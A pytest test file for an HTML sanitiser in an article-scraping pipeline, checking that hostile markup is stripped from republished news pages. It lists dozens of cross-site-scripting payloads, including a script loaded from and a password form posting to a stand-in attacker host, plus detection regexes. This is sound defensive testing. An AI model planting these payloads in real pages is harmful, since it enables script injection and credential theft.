"""The body is sanitised with an allow-list: whatever a page contains, no script, event handler,
javascript:/vbscript:/data: URL, iframe, form, embedded object, inline style or document-level element
survives, both through sanitise_html alone and through extract_article on a page that carries it."""

from __future__ import annotations

import html
import re
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup, Tag

from pipeline.config import load_config
from pipeline.dom import html_text
from pipeline.extract.article import extract_article
from pipeline.extract.sanitise import has_text, sanitise_html
from pipeline.model import Page, Source
from tests.fixture_site import derive_article
from tests.helpers import REPO_ROOT

TEMPLATE = "article-improvements-to-the-pathway-student-visa.html"
ARTICLE_URL = "https://www.immigration.govt.nz/about-us/news-centre/hostile-body/"

# What a republished body may hold. Deliberately written out here rather than imported from
# pipeline.extract.sanitise, so that widening the sanitiser's lists is a visible change to this test too.
SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "div", "dl",
    "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd",
    "li", "mark", "ol", "p", "pre", "q", "s", "small", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {
    "a": {"href", "title", "hreflang", "rel"},
    "abbr": {"title"},
    "img": {"src", "alt", "title", "width", "height"},
    "ol": {"start", "reversed"},
    "td": {"colspan", "rowspan", "headers"},
    "th": {"colspan", "rowspan", "headers", "scope"},
}
GENERIC_ATTRIBUTES = {"title", "lang"}  # nh3 keeps these on every tag: plain text, never fetched or run
URL_ATTRIBUTES = {"href", "src"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}

HOSTILE_BODIES: dict[str, str] = {
    "script tag": '<script>alert("x")</script><p>after</p>',
    "script with src": '<script src="https://evil.example/x.js"></script>',
    "style tag": "<style>body { background: url(javascript:alert(1)) }</style>",
    "event handlers": '<p onclick="alert(1)" onmouseover="alert(1)" ONLOAD="alert(1)">text</p>',
    "img onerror": '<img src="x.png" onerror="alert(1)" alt="a">',
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "mixed-case javascript": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "leading space javascript": '<a href=" javascript:alert(1)">x</a>',
    "tab entity in scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "newline entity in scheme": '<a href="java&#x0A;script:alert(1)">x</a>',
    "encoded first letter": '<a href="&#106;avascript:alert(1)">x</a>',
    "colon entity": '<a href="javascript&colon;alert(1)">x</a>',
    "control character in scheme": '<a href="java\x01script:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data url link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data url image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "iframe": '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form and inputs": (
        '<form action="https://evil.example/steal" method="post"><input type="password" name="pw">'
        '<textarea name="t"></textarea><select><option>1</option></select><button>Log in</button></form>'
    ),
    "formaction": '<button formaction="javascript:alert(1)">go</button><input type="image" formaction="javascript:alert(1)">',
    "object and embed": '<object data="https://evil.example/x.swf"><param name="a" value="b"></object><embed src="https://evil.example/x.swf">',
    "svg onload and script": '<svg onload="alert(1)"><script>alert(2)</script><circle r="5"/></svg>',
    "svg xlink href": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">click</text></a></svg>',
    "svg animate": '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
    "mathml href": '<math href="javascript:alert(1)"><mtext>click</mtext></math>',
    "mathml mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "base href": '<base href="https://evil.example/"><a href="/relative">r</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "css expression": '<div style="width: expression(alert(1))">w</div>',
    "inline style overlay": '<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">o</a>',
    "split script tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "nested script in attribute": '<p title="</p><script>alert(1)</script>">t</p>',
    "unclosed comment": "<!-- <script>alert(1)</script>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "srcset": '<img src="ok.png" srcset="javascript:alert(1) 1x, https://evil.example/a.png 2x">',
    "picture source": '<picture><source srcset="javascript:alert(1)"><img src="ok.png"></picture>',
    "media elements": '<video src="x" onerror="alert(1)"></video><audio src="x" onerror="alert(1)"></audio>',
    "details ontoggle": '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
    "table background": '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">c</td></tr></table>',
    "id and class clobbering": '<img name="getElementById" id="cookie" class="x" data-x="1" src="ok.png">',
    "target blank": '<a href="https://example.org/" target="_blank">t</a>',
    "isindex and marquee": '<isindex action="javascript:alert(1)"><marquee onstart="alert(1)">m</marquee>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "xml processing": '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
    "blockquote cite javascript": '<blockquote cite="javascript:alert(1)">q</blockquote>',
}
FORBIDDEN_MARKUP = re.compile(
    r"<\s*/?\s*(script|style|iframe|frame|frameset|object|embed|param|form|input|button|textarea|select|"
    r"option|svg|math|base|meta|link|noscript|template|video|audio|source|picture|isindex|marquee)\b",
    re.I,
)
TAG = re.compile(r"<[^>]*>")
# Inside any tag left in the output (text between tags is inert, so it is not searched).
UNSAFE_IN_TAG = re.compile(
    r"(\bon[a-z]+\s*=|\bstyle\s*=|\b(srcset|formaction|xlink:href|action|background|cite)\s*=|"
    r"=\s*[\"']?\s*(javascript|vbscript|data)\s*:|expression\s*\()",
    re.I,
)


def inz_source() -> Source:
    return load_config(REPO_ROOT / "sources.yaml").source("inz")


def extracted_body(body_html: str) -> str:
    """Embed `body_html` in a real article page and extract it."""
    page_html = derive_article(
        TEMPLATE,
        slug="hostile-body",
        title="Hostile body",
        published="10 July 2026",
        body_html="<p>Before.</p>" + body_html + "<p>After.</p>",
    )
    page = Page(
        url=ARTICLE_URL,
        final_url=ARTICLE_URL,
        status=200,
        headers={"content-type": "text/html; charset=utf-8"},
        body=page_html.encode("utf-8"),
        fetched_at=datetime(2026, 7, 13, tzinfo=UTC),
    )
    return extract_article(page, inz_source()).body_html


def assert_safe(output: str) -> None:
    """Every tag and attribute on the allow-list, every URL of a safe scheme; then regex checks."""
    soup = BeautifulSoup(output, "html.parser")
    for element in soup.find_all(True):
        assert isinstance(element, Tag)
        assert element.name in SAFE_TAGS, f"tag <{element.name}> in {output!r}"
        for name, value in element.attrs.items():
            allowed = SAFE_ATTRIBUTES.get(element.name, set()) | GENERIC_ATTRIBUTES
            assert name in allowed, f"<{element.name} {name}=> in {output!r}"
            if name in URL_ATTRIBUTES:
                url = re.sub(r"[\x00-\x20]", "", html.unescape(str(value))).lower()
                scheme = urlsplit(url).scheme
                assert scheme in SAFE_SCHEMES or (not scheme and not url.startswith("//")), f"{name}={value!r}"
    assert not FORBIDDEN_MARKUP.search(output), output
    for tag in TAG.findall(output):
        assert not UNSAFE_IN_TAG.search(html.unescape(tag)), tag
    assert "<!--" not in output, output


def test_there_are_enough_hostile_bodies() -> None:
    assert len(HOSTILE_BODIES) >= 25


@pytest.mark.parametrize("body", HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_sanitise_html_removes_every_hostile_construct(body: str) -> None:
    assert_safe(sanitise_html(body))


@pytest.mark.parametrize("body", HOSTILE_BODIES.values(), ids=HOSTILE_BODIES.keys())
def test_extracted_body_has_no_hostile_construct(body: str) -> None:
    output = extracted_body(body)
    assert_safe(output)
    assert output.startswith("<p>Before.</p>")


def test_base_element_cannot_retarget_relative_links() -> None:
    soup = BeautifulSoup(extracted_body(HOSTILE_BODIES["base href"]), "html.parser")
    assert [a["href"] for a in soup.find_all("a")] == ["https://www.immigration.govt.nz/relative"]


def test_all_hostile_bodies_at_once() -> None:
    everything = "\n".join(body for name, body in HOSTILE_BODIES.items() if "comment" not in name)
    assert_safe(sanitise_html(everything))
    assert_safe(extracted_body(everything))


def test_text_of_removed_elements_is_not_turned_into_markup() -> None:
    output = sanitise_html("<p>1 &lt; 2 &amp;&amp; <b>bold</b> &lt;script&gt;alert(1)&lt;/script&gt;</p>")
    assert output == "<p>1 &lt; 2 &amp;&amp; <b>bold</b> &lt;script&gt;alert(1)&lt;/script&gt;</p>"


GOOD_BODY = """
<h2>What is changing</h2>
<h3>Details</h3>
<p>Read <strong>this</strong> and <em>that</em>, or <b>bold</b> and <i>italic</i>.</p>
<ul><li>one</li><li>two <a href="https://www.immigration.govt.nz/visas/">visas</a></li></ul>
<ol start="3"><li>three</li></ol>
<p>Email <a href="mailto:media@mbie.govt.nz">media@mbie.govt.nz</a> or see <a href="/contact-us/">contact us</a>.</p>
<table><thead><tr><th scope="col">Fee</th><th>Amount</th></tr></thead>
<tbody><tr><td>Visa</td><td colspan="1">NZD $100</td></tr></tbody></table>
<blockquote>A quote</blockquote>
<img src="/assets/chart.png" alt="A chart" width="100" height="50">
"""


def test_good_content_survives_sanitising() -> None:
    soup = BeautifulSoup(sanitise_html(GOOD_BODY), "html.parser")
    assert [h.get_text() for h in soup.find_all(["h2", "h3"])] == ["What is changing", "Details"]
    assert [li.get_text() for li in soup.find_all("li")] == ["one", "two visas", "three"]
    assert soup.find("ol", start="3") is not None
    hrefs = [a["href"] for a in soup.find_all("a")]
    assert hrefs == ["https://www.immigration.govt.nz/visas/", "mailto:media@mbie.govt.nz", "/contact-us/"]
    assert [t.name for t in soup.find_all(["strong", "em", "b", "i"])] == ["strong", "em", "b", "i"]
    assert [c.get_text() for c in soup.find_all(["th", "td"])] == ["Fee", "Amount", "Visa", "NZD $100"]
    assert soup.find("th", scope="col") is not None
    assert soup.find("blockquote") is not None
    image = soup.find("img")
    assert isinstance(image, Tag) and image["alt"] == "A chart" and image["src"] == "/assets/chart.png"


def test_good_content_survives_extraction_with_absolute_links() -> None:
    soup = BeautifulSoup(extracted_body(GOOD_BODY), "html.parser")
    assert [h.name for h in soup.find_all(["h2", "h3"])] == ["h2", "h3"]
    hrefs = [a["href"] for a in soup.find_all("a")]
    assert hrefs == [
        "https://www.immigration.govt.nz/visas/",
        "mailto:media@mbie.govt.nz",
        "https://www.immigration.govt.nz/contact-us/",
    ]
    image = soup.find("img")
    assert isinstance(image, Tag) and image["src"] == "https://www.immigration.govt.nz/assets/chart.png"
    assert soup.find("table") is not None and soup.find("strong") is not None and soup.find("em") is not None
    assert_safe(str(soup))


@pytest.mark.parametrize("markup", ["<h2><form/><h2></h2></h2>", "<h2><span><h2>Inner</h2></span>Outer</h2>"])
def test_a_heading_nested_through_a_removed_element_comes_out_as_a_reader_parses_it(markup: str) -> None:
    # html5ever nests the inner heading inside the element the allow-list removes; written out, that
    # would be a heading inside a heading, which a reader's parser reads as two.
    cleaned = sanitise_html(markup)

    assert "<h2><h2>" not in cleaned
    assert sanitise_html(cleaned) == cleaned


TEXT_OR_NOT = {
    "words": ('<p>Closed <a href="https://x.test/a" title="a > b">today</a>.</p>', True),
    "a digit in a table": ("<table><tr><td>7</td></tr></table>", True),
    "only a quoted attribute": ('<p><img src="https://x.test/a.png" alt="Words"></p>', False),
    "a reference alone": ("<p>AT&amp;T</p>", True),
    "a non-breaking space": ("<p>&nbsp;</p><p>\u00a0</p>", False),
    "a character reference to a control": ("<p>&#1;</p>", True),
    "a comment": ("<p><!-- Closed --></p>", False),
    "a script": ("<script>Closed</script>", False),
    "ruby annotations": ("<ruby><rt>Closed</rt><rp>(</rp></ruby>", False),
    "an unquoted attribute": ("<p title=a>b>  </p>", True),
    "a single-quoted attribute": ("<p title='a>b'>  </p>", False),
    "a bare less-than": ("<p>< 5</p>", True),
}


@pytest.mark.parametrize(("body", "expected"), TEXT_OR_NOT.values(), ids=TEXT_OR_NOT.keys())
def test_has_text_answers_as_html_text_does(body: str, expected: bool) -> None:
    assert has_text(body) is expected
    assert bool(html_text(body).strip()) is expected
